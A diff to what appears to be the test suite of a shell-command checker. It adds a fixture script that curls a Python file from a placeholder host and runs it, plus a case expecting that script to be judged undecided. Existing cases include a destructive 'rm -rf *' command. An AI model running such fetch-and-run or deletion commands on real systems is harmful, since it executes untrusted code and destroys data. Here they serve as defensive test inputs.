@@ -37,6 +37,7 @@ FILES = {
     "clicks.py": "import click\n@click.command()\n@click.option('--n', type=int)\ndef main(n): pass\nmain()\n",
     "broken.py": PARSE + "p.add_argument('--lr')\np.parse_args()\n",
     "lib/__init__.py": "def load(name): return name\n",
+    "sub/get.sh": "mkdir -p $1\ncurl -s http://x.example/t.py -o $1/t.py\npython3 $1/t.py --lr 2\n",
     "sub/go.sh": "cd .. && python train.py --lr $LR\n",
     "config.py": "import json\njson.load(open('c.json'))\n" + PARSE + "p.parse_args()\n",
     "wide.py": "import os\nrows, columns = os.popen('stty size', 'r').read().split()\n"
@@ -93,6 +94,7 @@ async def ask(checker: Checker, code: str, cwd: str = ".", prefix: str = "", kin
         ("sleep 1000; python train.py", "accepted", ""),
         ("rm -rf * ; python train.py", "rejected", "no-such-file"),
         ("python train.py --lr $(cat lr.txt | python train.py)", "undecided", "cannot-follow"),
+        ("bash sub/get.sh /tmp/data", "undecided", "cannot-follow"),  # its file would be what curl loads
         ("for i in {1..60}; do python train.py --lr $i; done", "undecided", "cannot-follow"),
         # what the program does
         ("python past.py", "accepted", ""),
